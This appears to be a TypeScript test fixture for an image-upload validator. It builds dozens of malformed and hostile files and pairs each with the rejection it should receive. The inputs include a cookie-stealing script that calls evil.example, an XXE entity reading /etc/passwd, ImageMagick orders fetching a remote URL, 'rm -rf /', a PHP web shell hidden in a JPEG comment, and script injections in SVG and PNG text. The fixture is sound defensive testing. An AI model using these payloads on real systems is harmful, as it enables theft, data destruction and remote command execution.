import { deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import * as corpus from './corpus.fixture.ts'
import { hostilePdfs as pdfs, latin, type Hostile, zip } from './hostile-pdfs.fixture.ts'

export const html = Buffer.from('<html><script>fetch("//evil.example/"+document.cookie)</script></html>')
const behind = async (tail: Buffer) => Buffer.concat([await corpus.noiseJpeg(), tail])
const movingWebp = () =>
  sharp(Buffer.alloc(64 * 128 * 3, 90).fill(200, 0, 64 * 64 * 3), {
    raw: { width: 64, height: 128, channels: 3, pageHeight: 64 },
  })
    .webp({ loop: 0, delay: [100, 100] })
    .toBuffer()
/** A JPEG with one more segment behind its head: 0xfe is a comment, 0xe1 EXIF or XMP, 0xed Photoshop's. */
const withSegment = async (marker: number, body: Buffer) => {
  const photo = await corpus.noiseJpeg(200, 150)
  const head = Buffer.from([0xff, marker, (body.length + 2) >> 8, (body.length + 2) & 0xff])
  return Buffer.concat([photo.subarray(0, 2), head, body, photo.subarray(2)])
}
/** A JPEG whose head says another size than its body has. */
const withSides = async (width: number, height: number) => {
  const photo = Buffer.from(await corpus.noiseJpeg(200, 150))
  const frame = photo.indexOf(Buffer.from([0xff, 0xc0]))
  photo.writeUInt16BE(height, frame + 5)
  photo.writeUInt16BE(width, frame + 7)
  return photo
}
const grey = (width = 64, height = 64) => Buffer.alloc((width + 1) * height)
const pngWith = (extra: Buffer) => corpus.pngOf(64, 64, grey(), extra)
const pngBroken = (at: 'check' | 'body') => {
  const png = Buffer.from(corpus.pngOf(64, 64, Buffer.from(grey().map((_, i) => i % 251))))
  const body = png.indexOf('IDAT')
  if (at === 'check') png[png.length - 14] = (png[png.length - 14] ?? 0) ^ 0xff
  else png.fill(0x55, body + 6, body + 20)
  return png
}
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'

const photos: readonly Hostile[] = [
  { title: 'an empty file', end: 'empty', make: () => Buffer.alloc(0), child: true },
  { title: 'a file over 25 MB', end: 'too-large', make: () => Buffer.alloc(25_000_001), child: true },
  {
    title: 'a photo cut in the middle',
    end: 'truncated',
    make: async () => (await corpus.noiseJpeg()).subarray(0, 40_000),
    child: true,
  },
  {
    title: 'a PNG cut in the middle',
    end: 'truncated',
    make: async () => {
      const png = await sharp(await corpus.noiseJpeg())
        .png()
        .toBuffer()
      return png.subarray(0, png.length >> 1)
    },
  },
  { title: 'a HEIC cut in the middle', end: 'truncated', make: () => corpus.phoneHeic.subarray(0, 640), child: true },
  {
    title: 'a WebP cut in the middle',
    end: 'damaged',
    make: async () =>
      (
        await sharp(await corpus.noiseJpeg())
          .webp()
          .toBuffer()
      ).subarray(0, 9000),
  },
  {
    title: 'the first bytes of a JPEG and no more',
    end: 'truncated',
    make: async () => (await corpus.noiseJpeg()).subarray(0, 30),
  },
  { title: 'a PNG of 256 million pixels', end: 'too-many-pixels', make: corpus.pngBomb, child: true },
  {
    title: 'a JPEG that says it has four thousand million pixels',
    end: 'too-many-pixels',
    make: () => withSides(65_500, 65_500),
  },
  { title: 'a JPEG that says it is larger than its body', end: 'truncated', make: () => withSides(4000, 4000) },
  { title: 'a picture of no width', end: 'damaged', make: () => corpus.pngOf(0, 5, Buffer.alloc(5)) },
  { title: 'a picture of one pixel', end: 'too-small', make: () => corpus.pngOf(1, 1, Buffer.alloc(2)) },
  { title: 'a PNG whose check sum is wrong', end: 'truncated', make: () => pngBroken('check') },
  { title: 'a PNG whose body is no packed data', end: 'truncated', make: () => pngBroken('body') },
  {
    title: 'a JPEG of which every second byte is noise',
    end: 'truncated',
    make: async () => (await corpus.noiseJpeg()).map((b, i) => (i > 700 && i % 2 ? 0xff : b)) as Buffer,
  },
  { title: 'a moving WebP', end: 'animated', make: movingWebp },
  {
    title: 'a moving PNG',
    end: 'animated',
    make: () => {
      const control = Buffer.alloc(8)
      control.writeUInt32BE(2, 0)
      return pngWith(corpus.pngChunk('acTL', control))
    },
  },
  {
    title: 'an SVG, whatever it is called',
    end: 'svg',
    make: () => latin('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'),
  },
  {
    title: 'an SVG behind spaces, a mark of its bytes and a comment',
    end: 'svg',
    make: () => Buffer.from(`\uFEFF \n<!-- photo.jpg -->${svg}`),
  },
  { title: 'an SVG that is packed', end: 'wrong-type', make: () => gzipSync(svg) },
  { title: 'an SVG in letters of two bytes', end: 'not-an-image', make: () => Buffer.from(svg, 'utf16le') },
  { title: 'a web page', end: 'not-an-image', make: () => html, child: true },
  {
    title: 'a web page with a photo behind it',
    end: 'not-an-image',
    make: async () => Buffer.concat([html, await corpus.noiseJpeg()]),
  },
  {
    title: 'XML that asks for a file of ours',
    end: 'not-an-image',
    make: () => latin('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
  },
  {
    title: 'drawing orders of ImageMagick',
    end: 'not-an-image',
    make: () =>
      latin(
        'push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 "https://evil.example/x.jpg"\npop graphic-context\n',
      ),
  },
  { title: 'a shell script', end: 'not-an-image', make: () => latin('#!/bin/sh\nrm -rf /\n') },
  { title: 'plain text', end: 'not-an-image', make: () => latin('my rash is red') },
  { title: 'zeros', end: 'not-an-image', make: () => Buffer.alloc(5000) },
  { title: 'a GIF', end: 'wrong-type', make: () => corpus.twoColours(40, 40).gif().toBuffer() },
  { title: 'an AVIF', end: 'wrong-type', make: () => corpus.twoColours(64, 64).avif({ effort: 0 }).toBuffer() },
  { title: 'a TIFF', end: 'wrong-type', make: () => corpus.twoColours(64, 64).tiff().toBuffer() },
  { title: 'a bitmap', end: 'wrong-type', make: () => Buffer.concat([latin('BM'), Buffer.alloc(200)]) },
  { title: 'a program for Windows', end: 'wrong-type', make: () => Buffer.concat([latin('MZ'), Buffer.alloc(200)]) },
  {
    title: 'a program for Linux',
    end: 'wrong-type',
    make: () => Buffer.concat([latin('\x7fELF\x02\x01\x01'), Buffer.alloc(200)]),
  },
  { title: 'WebAssembly', end: 'wrong-type', make: () => Buffer.concat([latin('\0asm\x01\0\0\0'), Buffer.alloc(50)]) },
  { title: 'PostScript', end: 'wrong-type', make: () => latin('%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n') },
  {
    title: 'a document with macros',
    end: 'wrong-type',
    make: () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
  },
  { title: 'a zip', end: 'wrong-type', make: () => zip, child: true },
  { title: 'a photo with a web page behind it', end: 'polyglot', make: () => behind(html), child: true },
  { title: 'a photo with a zip behind it', end: 'polyglot', make: () => behind(zip) },
  { title: 'a photo with a PDF inside', end: 'polyglot', make: () => behind(corpus.onePage()) },
  {
    title: 'a photo with PHP in its comment',
    end: 'polyglot',
    make: () => withSegment(0xfe, latin('<?php system($_GET["a"]); ?>')),
  },
  {
    title: 'a photo with a script in its comment',
    end: 'polyglot',
    make: () => withSegment(0xfe, latin('<script>alert(document.cookie)</script>')),
  },
  {
    title: 'a PNG with a script in its text',
    end: 'polyglot',
    make: () => pngWith(corpus.pngChunk('tEXt', latin('Comment\0<script>alert(document.cookie)</script>'))),
  },
  { title: 'a phone’s photo with where it was taken', end: 'drawn', make: corpus.phoneJpeg, child: true },
  { title: 'a phone’s HEIC with who took it', end: 'drawn', make: () => corpus.phoneHeic },
  { title: 'a photo with words in its comment', end: 'drawn', make: () => withSegment(0xfe, latin(corpus.CANARY)) },
  {
    title: 'a photo with words for editors',
    end: 'drawn',
    make: () => withSegment(0xed, latin(`Photoshop 3.0\0${corpus.CANARY}`)),
  },
  {
    title: 'a PNG with words beside it',
    end: 'drawn',
    make: () => pngWith(corpus.pngChunk('tEXt', latin(`Author\0${corpus.CANARY}`))),
  },
  {
    title: 'a PNG with packed words beside it',
    end: 'drawn',
    make: () => pngWith(corpus.pngChunk('zTXt', Buffer.concat([latin('Author\0\0'), deflateSync(corpus.CANARY)]))),
  },
  {
    title: 'a WebP with where it was taken',
    end: 'drawn',
    make: async () =>
      corpus
        .twoColours(80, 80)
        .withExif({ IFD0: { ImageDescription: corpus.CANARY } })
        .webp()
        .toBuffer(),
  },
]

/** What strangers may send, by kind, and what becomes of it. */
export const hostile: readonly Hostile[] = [...photos, ...pdfs]
